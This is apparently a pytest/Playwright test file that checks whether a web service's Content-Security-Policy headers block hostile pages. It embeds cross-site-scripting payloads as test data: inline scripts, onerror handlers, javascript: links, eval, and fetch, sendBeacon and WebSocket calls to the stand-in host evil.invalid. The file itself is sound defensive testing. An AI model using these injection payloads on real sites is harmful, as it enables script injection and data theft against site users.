"""The headers alone stop what the pages never let through: here hostile texts are taken for whole documents."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit
from urllib.request import urlopen

import pytest


def real_headers(url: str) -> dict[str, str]:
    with urlopen(f"{url}/review", timeout=10) as reply:
        return {
            name.lower(): value
            for name, value in reply.headers.items()
            if name.lower() not in ("content-length", "date", "etag")
        }


@dataclass
class Bare:
    """A browser, the numbers that ran in it, and the addresses that were fetched as a part of a page."""

    context: Any
    ran: set[int] = field(default_factory=set)
    fetched: list[str] = field(default_factory=list)

    def listen(self) -> None:
        self.context.expose_binding("ran", lambda _, *which: self.ran.add(int(str(which[0]).strip("[]'"))))
        # What a policy blocks is told as a request, too, but comes to no route.
        self.context.route(re.compile(r"evil\.invalid|/xss\?"), self.on_way)

    def on_way(self, route: Any) -> None:
        if not route.request.is_navigation_request():
            self.fetched.append(route.request.url)
        route.abort()

    def frame_each(self, url: str, texts: Any, headers: dict[str, str]) -> Any:
        """A page of frames, each with one payload as its whole document, under these headers."""
        frames = "".join(f"<iframe src=/alone?{number}></iframe>" for number in range(len(texts.payloads)))
        self.context.route("**/all", lambda route: route.fulfill(body=frames, content_type="text/html"))
        self.context.route(
            "**/alone?*",
            lambda route: route.fulfill(body=texts.payloads[int(urlsplit(route.request.url).query)], headers=headers),
        )
        page = self.context.new_page()
        page.goto(f"{url}/all")
        return page


@pytest.fixture
def bare(chromium: Any) -> Iterator[Bare]:
    context = chromium.new_context()
    context.set_default_timeout(20_000)
    made = Bare(context)
    made.listen()
    yield made
    context.close()


def test_the_texts_would_run_in_a_page_that_took_them_for_markup(bare: Bare, hostile: Any, texts: Any) -> None:
    """Or all the others here would prove nothing."""
    page = bare.frame_each(hostile.url, texts, {"content-type": "text/html; charset=utf-8"})
    for _ in range(200):
        if len(bare.ran) > 100 and len(bare.fetched) > 8:
            break
        page.wait_for_timeout(100)
    assert len(bare.ran) > 100
    assert len(bare.fetched) > 8


def test_the_policy_alone_stops_every_text_that_became_a_page(bare: Bare, hostile: Any, texts: Any) -> None:
    """In frames as in the test above, so that only the headers differ: all but what keeps a page out of any frame."""
    headers = real_headers(hostile.url)
    policy = headers["content-security-policy"]
    framed = policy.replace("frame-ancestors 'none'", "frame-ancestors 'self'")
    assert framed != policy
    headers |= {"content-security-policy": framed, "x-frame-options": "SAMEORIGIN"}
    page = bare.frame_each(hostile.url, texts, headers)
    page.wait_for_timeout(1000)
    stood = [frame for frame in page.frames if frame.url.startswith(f"{hostile.url}/alone?")]
    assert len(stood) > 0.9 * len(texts.payloads)  # some lead their own frame away, which is aborted
    assert not bare.ran
    allowed = [url for url in bare.fetched if url.startswith(f"{hostile.url}/xss")]  # a page of the service's may
    assert bare.fetched == allowed


PROBE = """
window.seen = [];
document.addEventListener("securitypolicyviolation", (one) => seen.push(one.effectiveDirective + " " + one.blockedURI));
addEventListener("load", async () => {
  const tries = [
    () => eval("ran(2)"), () => new Function("ran(3)")(), 
    () => { document.body.innerHTML = "<img src=x onerror=ran(4)>"; },
    () => document.write("<script>ran(5)</script>"), 
    () => { document.createElement("iframe").srcdoc = "<script>ran(6)</script>"; },
    () => { document.createElement("script").text = "ran(7)"; },
    () => document.body.insertAdjacentHTML("beforeend", "<b>"),
    () => new DOMParser().parseFromString("<b>", "text/html"), () => setTimeout("ran(8)", 0),
    () => fetch("//evil.invalid/x?9"), () => navigator.sendBeacon("//evil.invalid/x?10"),
    () => new Worker(URL.createObjectURL(new Blob(["ran(11)"]))), () => new WebSocket("ws://evil.invalid/x?12"),
    () => document.getElementById("link").click(), () => document.getElementById("press").click(),
    () => document.getElementById("form").requestSubmit(),
  ];
  window.threw = 0;
  for (const attempt of tries) { try { await attempt(); } catch { window.threw += 1; } }
  await new Promise((done) => setTimeout(done, 300));
  window.over = true;
});
"""
BODY = """<!doctype html><script src=/static/probe.js></script><base href=//evil.invalid/>
<script>ran(1)</script><script src=//evil.invalid/x.js></script><button id=press onclick=ran(13)>x</button>
<a id=link href=javascript:ran(14)>x</a><style>b { color: red }</style><p style="color: red">x</p>
<form id=form action=//evil.invalid/x?15></form><iframe src=/login></iframe><iframe src=//evil.invalid/x?16></iframe>
<object data=/login></object><embed src=/login><img src=//evil.invalid/x?17><video src=/x.mp4></video>
<link rel=stylesheet href=//evil.invalid/x.css><link rel=manifest href=/x.json><script type=module>ran(18)</script>
"""
BLOCKED = {
    "script-src-elem inline",
    "script-src-attr inline",
    "script-src-elem http://evil.invalid/x.js",
    "base-uri http://evil.invalid/",
    "require-trusted-types-for trusted-types-sink",
    "style-src-elem inline",
    "style-src-attr inline",
    "img-src http://evil.invalid/x",
    "style-src-elem http://evil.invalid/x.css",
    "connect-src http://evil.invalid/x",
    "connect-src ws://evil.invalid/x",
    "form-action http://evil.invalid/x",
    "frame-src http://evil.invalid",
}


def test_the_policy_forbids_each_way_in_by_itself(bare: Bare, hostile: Any) -> None:
    headers = real_headers(hostile.url)
    script = {**headers, "content-type": "text/javascript"}
    bare.context.route("**/static/probe.js", lambda route: route.fulfill(body=PROBE, headers=script))
    bare.context.route("**/probe", lambda route: route.fulfill(body=BODY, headers=headers))
    page = bare.context.new_page()
    page.goto(f"{hostile.url}/probe")
    for _ in range(400):
        if page.evaluate("window.over === true"):
            break
        page.wait_for_timeout(25)
    seen = {one.partition("?")[0] for one in page.evaluate("seen")}
    assert not BLOCKED - seen, "\n".join(sorted(seen))
    assert not bare.ran
    assert not bare.fetched
    assert page.url == f"{hostile.url}/probe"
